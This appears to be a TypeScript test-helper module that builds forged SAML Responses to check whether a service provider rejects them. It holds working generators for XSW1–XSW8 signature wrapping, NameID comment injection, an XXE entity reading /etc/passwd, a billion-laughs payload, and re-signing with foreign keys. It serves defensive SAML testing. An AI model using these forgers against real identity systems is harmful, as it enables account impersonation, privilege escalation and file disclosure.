// Forged SAML Responses for the ACS attack tests: pure functions from a valid signed Response
// (as the test IdP posted it) to an attack on it. Each one is built so that it is the real
// attack, not merely a broken message: in every signature-wrapping variant the signature still
// verifies (xml-crypto, the IdP's certificate) over the original, unchanged signed element,
// while the forged ("evil") content sits where a naive reader looks for it. The only way to
// refuse them is to read from the element the signature covers, which is what the SP must do.
// Variants XSW1–XSW8 follow SAML Raider's numbering (after Somorovsky et al., "On Breaking SAML:
// Be Whoever You Want to Be", USENIX Security 2012), with fresh IDs on forged elements so that
// no ID is duplicated (a verifier that refuses duplicate IDs still sees a valid signature).
import crypto from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

export const NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

/** A signing key and its certificate, PEM (the test IdP's, or another one). */
export interface SigningKey {
  privateKeyPem: string;
  certificatePem: string;
}

/** What the forged assertion claims instead of the signed one. */
export interface EvilChanges {
  /** New NameID value (e.g. the victim's email). */
  nameId?: string;
  /** Attributes whose values are replaced (created when absent), e.g. { mail: [...], groups: ['Admins'] }. */
  attributes?: Record<string, string[]>;
}

export const XSW_VARIANTS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type XswVariant = (typeof XSW_VARIANTS)[number];

export interface XswOptions {
  /**
   * XSW3–XSW8 change the Response's content, which breaks a Response-level signature:
   * 'remove' (default) drops it, so the only signature left is the valid one over the original
   * assertion; 'keep' leaves it (broken), for SPs that accept when any one signature verifies.
   */
  responseSignature?: 'remove' | 'keep';
}

// ---------------------------------------------------------------------------------------------
// DOM plumbing

function parse(xml: string): Document {
  const fail = (msg: string) => {
    throw new Error(`cannot parse the SAML Response: ${msg}`);
  };
  return new DOMParser({ errorHandler: { error: fail, fatalError: fail } }).parseFromString(xml, 'text/xml') as unknown as Document;
}

function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc as never);
}

function children(parent: Node, ns: string, localName: string): Element[] {
  const out: Element[] = [];
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === localName) out.push(n as Element);
  }
  return out;
}

function descendantsNS(root: Document | Element, ns: string, localName: string): Element[] {
  const list = root.getElementsByTagNameNS(ns, localName);
  const out: Element[] = [];
  for (let i = 0; i < list.length; i++) out.push(list.item(i)!);
  return out;
}

function only(parent: Node, ns: string, localName: string): Element {
  const found = children(parent, ns, localName);
  if (found.length !== 1) throw new Error(`expected one ${localName}, found ${found.length}`);
  return found[0]!;
}

function responseOf(doc: Document): Element {
  const root = doc.documentElement;
  if (!root || root.namespaceURI !== NS.samlp || root.localName !== 'Response') throw new Error('not a samlp:Response');
  return root;
}

/** The parsed Response with its one Assertion (a valid IdP response has exactly one). */
function open(xml: string) {
  const doc = parse(xml);
  const response = responseOf(doc);
  const assertion = only(response, NS.saml, 'Assertion');
  return { doc, response, assertion };
}

function signatureOf(el: Element): Element | undefined {
  return children(el, NS.ds, 'Signature')[0];
}

function requireSignature(el: Element, what: string): Element {
  const sig = signatureOf(el);
  if (!sig) throw new Error(`${what} is not signed: this attack needs a signed ${what}`);
  return sig;
}

function removeSignature(el: Element) {
  const sig = signatureOf(el);
  if (sig) el.removeChild(sig);
}

function freshId(): string {
  return `_evil_${crypto.randomBytes(12).toString('hex')}`;
}

function setText(el: Element, value: string) {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument!.createTextNode(value));
}

/** Inserts `el` where the SAML schema wants elements after Issuer/Signature/Extensions. */
function afterHeader(response: Element): Node | null {
  for (let n = response.firstChild; n; n = n.nextSibling) {
    if (n.nodeType !== 1) continue;
    const e = n as Element;
    if ((e.namespaceURI === NS.saml && e.localName === 'Issuer') || (e.namespaceURI === NS.ds && e.localName === 'Signature')) continue;
    if (e.namespaceURI === NS.samlp && e.localName === 'Extensions') continue;
    return e;
  }
  return null;
}

function applyEvil(assertion: Element, evil: EvilChanges) {
  if (evil.nameId !== undefined) {
    const subject = only(assertion, NS.saml, 'Subject');
    setText(only(subject, NS.saml, 'NameID'), evil.nameId);
  }
  if (evil.attributes) {
    const doc = assertion.ownerDocument!;
    let statement = children(assertion, NS.saml, 'AttributeStatement')[0];
    if (!statement) {
      statement = doc.createElementNS(NS.saml, `${assertion.prefix ? `${assertion.prefix}:` : ''}AttributeStatement`);
      assertion.appendChild(statement);
    }
    for (const [name, values] of Object.entries(evil.attributes)) {
      let attribute = children(statement, NS.saml, 'Attribute').find((a) => a.getAttribute('Name') === name);
      if (!attribute) {
        attribute = doc.createElementNS(NS.saml, `${statement.prefix ? `${statement.prefix}:` : ''}Attribute`);
        attribute.setAttribute('Name', name);
        statement.appendChild(attribute);
      }
      for (const old of children(attribute, NS.saml, 'AttributeValue')) attribute.removeChild(old);
      for (const value of values) {
        const v = doc.createElementNS(NS.saml, `${attribute.prefix ? `${attribute.prefix}:` : ''}AttributeValue`);
        v.appendChild(doc.createTextNode(value));
        attribute.appendChild(v);
      }
    }
  }
}

/** A forged copy of `assertion`: unsigned, fresh ID, `evil` applied. */
function evilClone(assertion: Element, evil: EvilChanges): Element {
  const copy = assertion.cloneNode(true) as Element;
  removeSignature(copy);
  copy.setAttribute('ID', freshId());
  applyEvil(copy, evil);
  return copy;
}

/** A copy of the original signed element without its own Signature: its digest is unchanged. */
function strippedCopy(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  removeSignature(copy);
  return copy;
}

function assertionLevel(xml: string, options: XswOptions) {
  const parts = open(xml);
  requireSignature(parts.assertion, 'Assertion');
  if ((options.responseSignature ?? 'remove') === 'remove') removeSignature(parts.response);
  return parts;
}

// ---------------------------------------------------------------------------------------------
// Signature wrapping

/**
 * XSW1 (Response signature): the document's Response is the forged one (fresh ID, forged,
 * unsigned assertion), and the original signed Response, minus its Signature, is wrapped inside
 * that Signature element. The Response signature's Reference still points to the original ID, so
 * it verifies; a reader that checks "the Response signature is valid" and then reads
 * /Response/Assertion takes the forged assertion.
 */
export function xsw1(xml: string, evil: EvilChanges): string {
  const { doc, response, assertion } = open(xml);
  const signature = requireSignature(response, 'Response');
  const original = strippedCopy(response);
  response.setAttribute('ID', freshId());
  response.replaceChild(evilClone(assertion, evil), assertion);
  signature.appendChild(original);
  return serialize(doc);
}

/**
 * XSW2 (Response signature): as XSW1, but the original signed Response (minus its Signature) is
 * inserted before the Signature as a sibling, making the signature "detached" from what it covers.
 */
export function xsw2(xml: string, evil: EvilChanges): string {
  const { doc, response, assertion } = open(xml);
  const signature = requireSignature(response, 'Response');
  const original = strippedCopy(response);
  response.setAttribute('ID', freshId());
  response.replaceChild(evilClone(assertion, evil), assertion);
  response.insertBefore(original, signature);
  return serialize(doc);
}

/**
 * XSW3 (Assertion signature): a forged, unsigned assertion is injected before the original
 * signed one. Two assertions; the signature verifies over the second; a reader taking the first
 * Assertion (document order, or /Response/Assertion[1]) takes the forged one.
 */
export function xsw3(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, response, assertion } = assertionLevel(xml, options);
  response.insertBefore(evilClone(assertion, evil), assertion);
  return serialize(doc);
}

/**
 * XSW4 (Assertion signature): the forged assertion takes the original's place and the original
 * signed assertion is moved inside it (as its last child). The signature verifies over the
 * inner one; /Response/Assertion and the first Assertion in document order are the forged one.
 */
export function xsw4(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, response, assertion } = assertionLevel(xml, options);
  const forged = evilClone(assertion, evil);
  response.replaceChild(forged, assertion);
  forged.appendChild(assertion);
  return serialize(doc);
}

/**
 * XSW5 (Assertion signature): the forged assertion stays in place and keeps the original
 * Signature element (whose Reference names the original ID); a copy of the original assertion
 * without signature is appended at the end of the Response. The signature verifies over that
 * copy; a reader that takes the assertion holding a valid signature reads the forged one.
 */
export function xsw5(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, response, assertion } = assertionLevel(xml, options);
  const original = strippedCopy(assertion);
  assertion.setAttribute('ID', freshId());
  applyEvil(assertion, evil);
  response.appendChild(original);
  return serialize(doc);
}

/**
 * XSW6 (Assertion signature): as XSW5, but the copy of the original assertion is wrapped inside
 * the forged assertion's own Signature element.
 */
export function xsw6(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, assertion } = assertionLevel(xml, options);
  const signature = signatureOf(assertion)!;
  const original = strippedCopy(assertion);
  assertion.setAttribute('ID', freshId());
  applyEvil(assertion, evil);
  signature.appendChild(original);
  return serialize(doc);
}

/**
 * XSW7 (Assertion signature): a samlp:Extensions element (whose content the schema leaves open,
 * so schema validation still passes) is added to the Response holding the forged, unsigned
 * assertion; the original signed assertion stays where it was. The forged one is the first
 * Assertion in document order (getElementsByTagName / `//Assertion` readers).
 */
export function xsw7(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, response, assertion } = assertionLevel(xml, options);
  const extensions = doc.createElementNS(NS.samlp, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
  extensions.appendChild(evilClone(assertion, evil));
  response.insertBefore(extensions, afterHeader(response));
  return serialize(doc);
}

/**
 * XSW8 (Assertion signature): the forged assertion stays in place with the original Signature,
 * and a ds:Object inside that Signature holds the copy of the original assertion without
 * signature (ds:Object content is open in the schema). The signature verifies over the copy.
 */
export function xsw8(xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  const { doc, assertion } = assertionLevel(xml, options);
  const signature = signatureOf(assertion)!;
  const original = strippedCopy(assertion);
  assertion.setAttribute('ID', freshId());
  applyEvil(assertion, evil);
  const object = doc.createElementNS(NS.ds, `${signature.prefix ? `${signature.prefix}:` : ''}Object`);
  object.appendChild(original);
  signature.appendChild(object);
  return serialize(doc);
}

const XSW = { XSW1: xsw1, XSW2: xsw2, XSW3: xsw3, XSW4: xsw4, XSW5: xsw5, XSW6: xsw6, XSW7: xsw7, XSW8: xsw8 } as const;

/** One of XSW1–XSW8 by name (XSW1/XSW2 need a signed Response, the others a signed Assertion). */
export function xsw(variant: XswVariant, xml: string, evil: EvilChanges, options: XswOptions = {}): string {
  return XSW[variant](xml, evil, options);
}

// ---------------------------------------------------------------------------------------------
// Comments, DOCTYPE

/**
 * Comment injection into the NameID (CVE-2017-11427 and siblings): the IdP signed
 * `alice@acme.test.evil.com` (an address the attacker owns at the IdP); a comment is inserted
 * after `visiblePrefix` (`alice@acme.test<!---->.evil.com`) in the NameID and in every
 * AttributeValue with the same text. Exclusive canonicalization drops comments, so both
 * signatures still verify, while a reader that takes the first text node sees `alice@acme.test`.
 */
export function injectComment(xml: string, visiblePrefix: string): string {
  const { doc, assertion } = open(xml);
  const nameId = only(only(assertion, NS.saml, 'Subject'), NS.saml, 'NameID');
  const full = nameId.textContent ?? '';
  if (!full.startsWith(visiblePrefix) || full.length === visiblePrefix.length) {
    throw new Error(`the signed NameID ${JSON.stringify(full)} does not extend ${JSON.stringify(visiblePrefix)}`);
  }
  const split = (el: Element) => {
    while (el.firstChild) el.removeChild(el.firstChild);
    el.appendChild(doc.createTextNode(visiblePrefix));
    el.appendChild(doc.createComment(''));
    el.appendChild(doc.createTextNode(full.slice(visiblePrefix.length)));
  };
  split(nameId);
  for (const value of descendantsNS(assertion, NS.saml, 'AttributeValue')) {
    if (value.textContent === full) split(value);
  }
  return serialize(doc);
}

export type DoctypeKind = 'xxe' | 'billion-laughs' | 'internal-entity';

/**
 * A DOCTYPE with entity declarations in front of the Response, referenced from the NameID:
 * - 'xxe': an external entity (file:///etc/passwd) whose content would land in the NameID;
 * - 'billion-laughs': ten levels of nested entities (10^9 "lol"s when expanded);
 * - 'internal-entity': an entity whose text equals the signed NameID, so a parser that expands
 *   it still sees a valid signature: only refusing the DOCTYPE itself stops it.
 * The SP must refuse any DOCTYPE before parsing.
 */
export function withDoctype(xml: string, kind: DoctypeKind): string {
  const body = xml.replace(/^\s*<\?xml[^>]*\?>\s*/, '');
  const root = /^<([A-Za-z_][\w.-]*(?::[\w.-]+)?)/.exec(body)?.[1];
  if (!root) throw new Error('no root element');
  const nameIdRe = /(<(?:[\w.-]+:)?NameID\b[^>]*>)([^<]*)(<\/(?:[\w.-]+:)?NameID>)/;
  const match = nameIdRe.exec(body);
  if (!match) throw new Error('no NameID');
  let subset: string;
  let replacement: string;
  if (kind === 'xxe') {
    subset = '<!ENTITY xxe SYSTEM "file:///etc/passwd">';
    replacement = `${match[2]}&xxe;`;
  } else if (kind === 'billion-laughs') {
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    subset = levels.join('');
    replacement = `${match[2]}&lol9;`;
  } else {
    subset = `<!ENTITY subject "${match[2]!.replace(/"/g, '&quot;')}">`;
    replacement = '&subject;';
  }
  const withRef = body.replace(nameIdRe, (_m, open: string, _text: string, close: string) => `${open}${replacement}${close}`);
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [${subset}]>\n${withRef}`;
}

// ---------------------------------------------------------------------------------------------
// Removing and re-signing

/** Every Signature removed: an unsigned Response with an unsigned Assertion. */
export function unsigned(xml: string): string {
  const { doc, response, assertion } = open(xml);
  removeSignature(response);
  removeSignature(assertion);
  return serialize(doc);
}

/**
 * The Response-level signature removed, the Assertion's kept. This is a legitimate shape (many
 * IdPs sign only the assertion): a positive control, not an attack.
 */
export function assertionSignatureOnly(xml: string): string {
  const { doc, response } = open(xml);
  removeSignature(response);
  return serialize(doc);
}

/**
 * A correctly signed Response whose Assertion is unsigned (the Assertion's signature removed and
 * the Response re-signed with `key`, normally the IdP's own): must be refused where assertions
 * must be signed (our SP metadata says WantAssertionsSigned).
 */
export function unsignedAssertion(xml: string, key: SigningKey): string {
  return resign(xml, key, () => {}, { signAssertion: false, signResponse: true });
}

export interface ResignOptions {
  /** Sign the Assertion (default true). */
  signAssertion?: boolean;
  /** Sign the Response (default: as the input was). */
  signResponse?: boolean;
}

/** The parts of an opened Response a re-signing change may edit. */
export interface ResponseParts {
  doc: Document;
  response: Element;
  assertion: Element;
}

/** Signs `element` (found by its ID) enveloped, after its Issuer, RSA-SHA256 over exclusive C14N. */
function signElement(xml: string, id: string, localName: 'Assertion' | 'Response', key: SigningKey): string {
  const sig = new SignedXml({ privateKey: key.privateKeyPem, publicCert: key.certificatePem, signatureAlgorithm: RSA_SHA256, canonicalizationAlgorithm: EXC_C14N });
  sig.addReference({ xpath: `//*[local-name(.)='${localName}' and @ID='${id}']`, transforms: [ENVELOPED, EXC_C14N], digestAlgorithm: SHA256 });
  sig.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `//*[local-name(.)='${localName}' and @ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return sig.getSignedXml();
}

/**
 * Removes every signature, applies `change` to the DOM, and signs again with `key`: with the
 * IdP's own key the result is a genuinely signed message, so only the SP's own checks
 * (audience, destination, recipient, times, InResponseTo, issuer) can refuse it; with another
 * key it is "a response signed by another connection's certificate".
 */
export function resign(xml: string, key: SigningKey, change: (parts: ResponseParts) => void, options: ResignOptions = {}): string {
  const parts = open(xml);
  const hadResponseSignature = !!signatureOf(parts.response);
  removeSignature(parts.response);
  removeSignature(parts.assertion);
  change(parts);
  let out = serialize(parts.doc);
  const assertionId = parts.assertion.getAttribute('ID')!;
  const responseId = parts.response.getAttribute('ID')!;
  if (options.signAssertion ?? true) out = signElement(out, assertionId, 'Assertion', key);
  if (options.signResponse ?? hadResponseSignature) out = signElement(out, responseId, 'Response', key);
  return out;
}

/** Forged claims (`evil`) signed with `key`: another IdP's or another connection's key. */
export function signedWithKey(xml: string, key: SigningKey, evil: EvilChanges = {}): string {
  return resign(xml, key, ({ assertion }) => applyEvil(assertion, evil));
}

function subjectConfirmationData(assertion: Element): Element[] {
  const subject = only(assertion, NS.saml, 'Subject');
  return children(subject, NS.saml, 'SubjectConfirmation').flatMap((sc) => children(sc, NS.saml, 'SubjectConfirmationData'));
}

/** Audience replaced (re-signed with `key`): an assertion addressed to another SP. */
export function withAudience(xml: string, key: SigningKey, audience: string): string {
  return resign(xml, key, ({ assertion }) => {
    const conditions = only(assertion, NS.saml, 'Conditions');
    for (const restriction of children(conditions, NS.saml, 'AudienceRestriction')) {
      for (const a of children(restriction, NS.saml, 'Audience')) setText(a, audience);
    }
  });
}

/** Response Destination replaced (re-signed with `key`): a response sent to another ACS. */
export function withDestination(xml: string, key: SigningKey, destination: string): string {
  return resign(xml, key, ({ response }) => response.setAttribute('Destination', destination));
}

/** SubjectConfirmationData Recipient replaced (re-signed with `key`). */
export function withRecipient(xml: string, key: SigningKey, recipient: string): string {
  return resign(xml, key, ({ assertion }) => {
    for (const scd of subjectConfirmationData(assertion)) scd.setAttribute('Recipient', recipient);
  });
}

/** InResponseTo replaced on the Response and SubjectConfirmationData (re-signed with `key`). */
export function withInResponseTo(xml: string, key: SigningKey, inResponseTo: string): string {
  return resign(xml, key, ({ response, assertion }) => {
    response.setAttribute('InResponseTo', inResponseTo);
    for (const scd of subjectConfirmationData(assertion)) scd.setAttribute('InResponseTo', inResponseTo);
  });
}

/** Issuer of the Response and Assertion replaced (re-signed with `key`). */
export function withIssuer(xml: string, key: SigningKey, issuer: string): string {
  return resign(xml, key, ({ response, assertion }) => {
    for (const el of [...children(response, NS.saml, 'Issuer'), ...children(assertion, NS.saml, 'Issuer')]) setText(el, issuer);
  });
}

const TIME_ATTRIBUTES = ['IssueInstant', 'NotBefore', 'NotOnOrAfter', 'AuthnInstant', 'SessionNotOnOrAfter'];

/**
 * Every timestamp in the Response moved by `seconds` (re-signed with `key`), as if the IdP had
 * issued it that much earlier (negative: expired) or later (positive: not yet valid).
 */
export function shiftTimes(xml: string, key: SigningKey, seconds: number): string {
  return resign(xml, key, ({ response }) => {
    const elements = [response, ...descendantsNS(response, '*', '*')];
    for (const el of elements) {
      for (const name of TIME_ATTRIBUTES) {
        const value = el.getAttribute(name);
        if (!value) continue;
        const shifted = new Date(Date.parse(value) + seconds * 1000);
        el.setAttribute(name, shifted.toISOString().replace(/\.\d{3}Z$/, 'Z'));
      }
    }
  });
}

/** Issued an hour ago: every NotOnOrAfter has passed (well beyond any clock skew). */
export function expired(xml: string, key: SigningKey, secondsAgo = 3600): string {
  return shiftTimes(xml, key, -secondsAgo);
}

/** Issued an hour from now: NotBefore lies in the future (well beyond any clock skew). */
export function notYetValid(xml: string, key: SigningKey, secondsAhead = 3600): string {
  return shiftTimes(xml, key, secondsAhead);
}

// ---------------------------------------------------------------------------------------------
// Encoding and inspection (for tests)

/** The SAMLResponse form value for the HTTP-POST binding. */
export function encodeResponse(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

export interface SignatureCheck {
  /** The ID the Signature's Reference names. */
  referenceId: string;
  /** Local name and ID of the element the Signature sits in. */
  parent: { localName: string; id: string | null };
  /** Whether xml-crypto verifies it against the certificate. */
  valid: boolean;
  /** The canonical XML the signature covers (when valid). */
  signedReferences: string[];
  error?: string;
}

/** Every ds:Signature in the document, checked with xml-crypto against `certificatePem`. */
export function checkSignatures(xml: string, certificatePem: string): SignatureCheck[] {
  const doc = parse(xml);
  return descendantsNS(doc, NS.ds, 'Signature').map((node) => {
    const reference = descendantsNS(node, NS.ds, 'Reference')[0];
    const referenceId = (reference?.getAttribute('URI') ?? '').replace(/^#/, '');
    const parentEl = node.parentNode as Element;
    const parent = { localName: parentEl.localName ?? '', id: parentEl.getAttribute('ID') };
    const sig = new SignedXml({ publicCert: certificatePem });
    try {
      sig.loadSignature(node);
      const valid = sig.checkSignature(xml);
      return { referenceId, parent, valid, signedReferences: valid ? sig.getSignedReferences() : [] };
    } catch (err) {
      return { referenceId, parent, valid: false, signedReferences: [], error: (err as Error).message };
    }
  });
}

export interface NaiveView {
  /** ID of the assertion the reader took. */
  assertionId: string | null;
  /** The first text node of its NameID (what a careless reader takes). */
  nameId: string | null;
}

/**
 * What a naive SP would read: 'document-order' takes the first Assertion anywhere in the
 * document (getElementsByTagName, `//Assertion`); 'path' takes the first Assertion child of the
 * document's Response (`/Response/Assertion[1]`). Both then take Subject/NameID's first text node.
 */
export function naiveRead(xml: string, reader: 'document-order' | 'path'): NaiveView {
  const doc = parse(xml);
  const assertion = reader === 'path' ? children(responseOf(doc), NS.saml, 'Assertion')[0] : descendantsNS(doc, NS.saml, 'Assertion')[0];
  if (!assertion) return { assertionId: null, nameId: null };
  const subject = children(assertion, NS.saml, 'Subject')[0];
  const nameId = subject && children(subject, NS.saml, 'NameID')[0];
  return { assertionId: assertion.getAttribute('ID'), nameId: nameId?.firstChild?.nodeValue ?? null };
}

/** IDs of all Assertion elements, in document order. */
export function assertionIds(xml: string): string[] {
  return descendantsNS(parse(xml), NS.saml, 'Assertion').map((a) => a.getAttribute('ID') ?? '');
}
